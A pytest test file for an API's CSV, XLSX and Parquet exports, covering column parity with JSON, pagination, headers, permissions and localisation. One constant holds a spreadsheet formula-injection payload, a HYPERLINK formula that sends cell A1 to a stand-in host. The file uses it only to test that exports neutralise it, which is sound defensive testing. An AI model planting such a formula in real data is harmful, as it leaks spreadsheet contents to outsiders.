"""Lists as tables: what the JSON list holds, for those who may see it, under one log position."""

import json
from datetime import date, datetime
from decimal import Decimal
from typing import Any, Final

import httpx
import pytest

from api.exporting.formats import MEDIA_TYPES, Format
from application.kernel.callers import Role
from tests.api.exporting.readers import READERS, Table, read_csv, read_parquet
from tests.journeys.answers import Problem
from tests.journeys.city import City
from tests.journeys.clerk import Clerk
from tests.journeys.client import Client

pytestmark = pytest.mark.asyncio(loop_scope="module")

FORMULA: Final = '=HYPERLINK("http://x.example/?"&A1,"点我")'


async def exported(client: Client, path: str, format_: str) -> tuple[Table, httpx.Response]:
    """Export a list with all that was written before."""
    answer = await client.get(f"{path}{'&' if '?' in path else '?'}format={format_}")
    assert answer.status_code == 200, answer.text
    return READERS[format_](answer.content), answer


def laid_flat(item: dict[str, Any], columns: list[str]) -> list[Any]:
    """Take the values of the columns from an item of a JSON list; lists and objects as JSON text."""
    values = []
    for column in columns:
        value: Any = item
        for step in column.split("."):
            value = None if value is None else value[step]
        values.append(json.dumps(value, sort_keys=True) if isinstance(value, list | dict) else value)
    return values


def as_json(cell: Any) -> Any:
    """Answer a cell of a Parquet file as JSON has it."""
    match cell:
        case datetime():
            return cell.isoformat().replace("+00:00", "Z")
        case date():
            return cell.isoformat()
        case Decimal():
            return float(cell)
        case str() if cell.startswith(("[", "{")):
            return json.dumps(json.loads(cell), sort_keys=True)
        case _:
            return cell


async def busy(clerk: Clerk) -> tuple[str, str, str]:
    """Have something in every list: a company, a manager who was charged and refused, a project with a manager."""
    company = await clerk.company()
    licence, project = await clerk.manager(company), await clerk.project(company, 80_000.25)
    await clerk.appoint(licence, project)
    charged = (await clerk.deduct(licence, "V08")).details["deduction_id"]
    await clerk.deduct(licence, "V29")
    await clerk.object(licence, charged)
    await clerk.is_refused(f"/licences/{licence}/registration", {"company_id": company})
    await clerk.is_refused(f"/companies/{company}/closure", {"reason": "解散"})
    return company, licence, project


async def test_every_list_is_the_same_as_a_table(clerk: Clerk) -> None:
    company, licence, project = await busy(clerk)
    lists = {
        "/rule-sets": 1,
        "/companies": 1,
        f"/companies/{company}/history": 1,
        f"/companies/{company}/refusals": 2,
        "/licences": 1,
        f"/licences/{licence}/deductions": 2,
        f"/licences/{licence}/history": 6,
        f"/licences/{licence}/refusals": 1,
        "/projects": 1,
        f"/projects/{project}/history": 2,
        f"/projects/{project}/refusals": 0,
        "/events": 10,
    }
    for path, least in lists.items():
        read, _ = await exported(clerk, path, "parquet")
        items = await clerk.items(path)
        assert [[as_json(cell) for cell in row] for row in read.rows] == [
            laid_flat(item, read.columns) for item in items
        ], path
        assert len(items) >= least, path
        for other in ("csv", "xlsx"):
            table, _ = await exported(clerk, path, other)
            assert table.columns == read.columns
            assert table.column(read.columns[0]) == [
                str(cell) if other == "csv" else cell for cell in read.column(read.columns[0])
            ]


async def test_an_export_goes_over_all_pages_and_keeps_the_filters(clerk: Clerk) -> None:
    company = await clerk.company("千禧物业")
    for number in range(203):
        await clerk.company(f"千禧物业{number}")
    for format_ in Format:
        table, _ = await exported(clerk, "/companies?q=%E5%8D%83%E7%A6%A7", format_)
        assert table.column("name") == ["千禧物业", *(f"千禧物业{number}" for number in range(203))]
        assert table.column("id")[0] == company
        few, _ = await exported(clerk, "/companies?q=%E5%8D%83%E7%A6%A7&limit=3", format_)
        assert few.rows == table.rows[:3]


async def test_the_columns_are_those_that_the_documentation_lists(clerk: Clerk) -> None:
    document = (await clerk.http.get("/openapi.json")).json()
    described = document["paths"]["/v1/projects"]["get"]["responses"]["200"]["content"]
    columns = [(await exported(clerk, "/projects", format_))[0].columns for format_ in Format]
    assert columns == [described[MEDIA_TYPES[format_]]["x-columns"] for format_ in Format]
    assert {"company.name", "contract.ends_on", "manager.licence_number", "tenures"} <= set(columns[0])


async def test_a_name_that_looks_like_a_formula_does_nothing(clerk: Clerk) -> None:
    await clerk.company(FORMULA)
    for format_ in Format:
        table, _ = await exported(clerk, "/companies?q=HYPERLINK", format_)
        assert table.column("name") == [f"'{FORMULA}" if format_ is Format.CSV else FORMULA]


@pytest.mark.parametrize("format_", Format)
async def test_an_export_names_the_log_position_it_was_taken_at(city: City, clerk: Clerk, format_: Format) -> None:
    await clerk.company()
    written = clerk.heard.position
    table, answer = await exported(clerk, "/companies?limit=1", format_)
    position = int(answer.headers["x-log-position"])
    assert written <= position <= await city.last_position()
    assert answer.headers["content-disposition"] == f'attachment; filename="companies-{position}.{format_}"'
    assert answer.headers["content-type"].partition(";")[0] == MEDIA_TYPES[format_]
    assert answer.headers["cache-control"] == "no-store"
    expected = {"xlsx": position, "parquet": str(position), "csv": None}[format_]
    assert (table.about.get("log_position") or table.about.get("guanjia.log_position")) == expected


async def test_the_log_ends_where_the_export_says(city: City, clerk: Clerk) -> None:
    for path in ("/events", f"/licences/{(await busy(clerk))[1]}/history"):
        table, answer = await exported(city.auditor(), path, "parquet")
        position = int(answer.headers["x-log-position"])
        assert table.column("position") == [
            item["position"] for item in await city.auditor().items(path) if item["position"] <= position
        ]


async def asked(client: Client, query: str, accept: str) -> str:
    answer = await client.ask("GET", f"/licences{query}", headers={"Accept": accept, "Accept-Language": "en"})
    assert answer.status_code == 200
    return answer.headers["content-type"].partition(";")[0]


async def test_the_accept_header_asks_for_a_form_and_the_parameter_wins(clerk: Clerk) -> None:
    for format_, media_type in MEDIA_TYPES.items():
        assert await asked(clerk, "", media_type) == media_type
        assert await asked(clerk, "", f"{media_type}, */*;q=0.1") == media_type
        assert await asked(clerk, f"?format={format_}", "application/json") == media_type
    assert await asked(clerk, "?format=csv", MEDIA_TYPES[Format.PARQUET]) == "text/csv"


@pytest.mark.parametrize("accept", ["*/*", "text/html, */*;q=0.8", "application/json, text/csv", "image/png", "text/*"])
async def test_json_stays_what_it_was(clerk: Clerk, accept: str) -> None:
    await clerk.applicant()
    answer = await clerk.ask("GET", "/licences?limit=1", headers={"Accept": accept})
    assert answer.headers["content-type"] == "application/json"
    assert "x-log-position" not in answer.headers
    assert answer.content == (await clerk.ask("GET", "/licences?limit=1")).content


@pytest.mark.parametrize(
    ("query", "pointer"),
    [
        ("format=pdf", "/format"),
        ("format=CSV", "/format"),
        ("format=", "/format"),
        ("format=csv&format=csv", "/format"),
        ("format=csv&cursor=WzFd", "/cursor"),
        ("format=csv&limit=201", "/limit"),
        ("format=csv&colour=red", "/colour"),
        ("format=csv&status=asleep", "/status"),
    ],
)
async def test_what_an_export_does_not_take_is_named(clerk: Clerk, query: str, pointer: str) -> None:
    assert (await clerk.cannot_read(422, f"/licences?{query}")).pointers == {pointer}


async def test_a_cursor_has_no_place_in_what_the_accept_header_makes_an_export(clerk: Clerk) -> None:
    answer = await clerk.ask("GET", "/licences?cursor=WzFd", headers={"Accept": "text/csv"})
    assert answer.status_code == 422
    assert Problem.of(answer).code == "malformed"


async def test_a_table_shows_what_its_reader_may_see(city: City, clerk: Clerk) -> None:
    _, licence, project = await busy(clerk)
    assert (await clerk.ask("GET", "/events?format=csv", headers={})).status_code == 200
    resident = city.neighbour(Role.RESIDENT, project)
    own, _ = await exported(resident, "/projects", "csv")
    assert own.column("id") == [project]
    for status, client, path in [
        (403, resident, "/events"),
        (403, resident, "/companies"),
        (
            404,
            city.neighbour(Role.RESIDENT, await clerk.project(await clerk.company())),
            f"/licences/{licence}/deductions",
        ),
        (401, city.nobody(), "/companies"),
    ]:
        answer = await client.get(f"{path}?format=parquet")
        assert answer.status_code == status
        assert answer.headers["content-type"] == "application/problem+json"
    full, _ = await exported(clerk, f"/licences/{licence}/deductions", "parquet")
    published, _ = await exported(resident, f"/licences/{licence}/deductions", "parquet")
    assert [grounds for grounds in full.column("objection.grounds") if grounds] == ["事实不清"]
    assert set(published.column("objection.grounds")) == {None}


async def test_refusals_are_told_in_the_language_asked_for(clerk: Clerk) -> None:
    company, _, _ = await busy(clerk)
    path = f"/companies/{company}/refusals?format=csv"
    english = read_csv((await clerk.get(path)).content).column("broken")
    chinese = read_csv((await clerk.get(path, language="zh-CN")).content).column("broken")
    assert [json.loads(told)[0]["code"] for told in english] == [json.loads(told)[0]["code"] for told in chinese]
    assert english != chinese


async def test_an_export_waits_for_the_position_asked_for(clerk: Clerk) -> None:
    for headers, status in [({"X-Min-Position": "9000000000"}, 503), ({"X-Min-Position": "x"}, 400)]:
        answer = await clerk.ask("GET", "/events?format=parquet", headers=headers)
        assert answer.status_code == status


async def test_the_head_of_an_export_can_be_asked_for(clerk: Clerk) -> None:
    answer = await clerk.ask("HEAD", "/companies?format=xlsx")
    assert answer.status_code == 200
    assert int(answer.headers["x-log-position"]) > 0
    assert answer.content == b""


async def test_areas_are_exact(clerk: Clerk) -> None:
    company = await clerk.company()
    await clerk.project(company, 199_999.99)
    answer = await clerk.get(f"/projects?company_id={company}&format=parquet")
    assert read_parquet(answer.content).column("building_area_m2") == [Decimal("199999.99")]
